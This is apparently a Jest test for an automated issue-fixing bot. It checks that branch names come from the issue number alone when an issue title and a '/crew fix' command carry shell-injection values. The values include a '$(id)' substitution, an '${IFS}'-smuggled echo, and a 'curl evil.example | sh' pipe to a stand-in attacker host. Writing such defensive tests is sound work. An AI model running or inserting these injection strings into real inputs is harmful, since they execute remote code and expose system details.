// What comes of words that are a line of a shell, once a fix of them is handed in.
import { expect, it } from '@jest/globals';
import { lifeOf } from '../faults/fix-thread/life.js';
import { workedIn } from '../faults/fix-thread/made.js';
import { gate, openFixShop, publish, REPO } from '../faults/fix-thread/shop.js';
import { refsIn } from '../faults/fix-thread/stands.js';
import { answer, edit, turn, wrongSum } from '../workflows/fix/at-work.js';

const TITLE = `zzz";echo\${IFS}"hello";# $(id)`;

it('is named by the number of its issue alone, whatever the issue is called and the command says', async () => {
  const body = 'add(1, 2) in add.js should give 3.';
  const shop = await openFixShop({ files: wrongSum, issue: { title: TITLE, body } });
  const event = await shop.ask({ words: `/crew fix "; curl evil.example | sh # \${IFS} $(id)` });
  const { machine } = lifeOf(shop, { name: 'all' });
  const began = await gate(shop, { event, machine });
  const turns = [turn(edit('add.js', 'a - b', 'a + b')), turn(answer())];
  const brought = await workedIn(shop, { event, began, turns });
  expect(await publish(shop, { event, machine, brought })).toBe(0);
  expect(refsIn(shop, 'refs/heads/')).toEqual(['crew/issue-1', 'main']);
  expect(shop.embedded.repository(REPO).pulls).toMatchObject([{ title: TITLE, head: { ref: 'crew/issue-1' } }]);
}, 240_000);
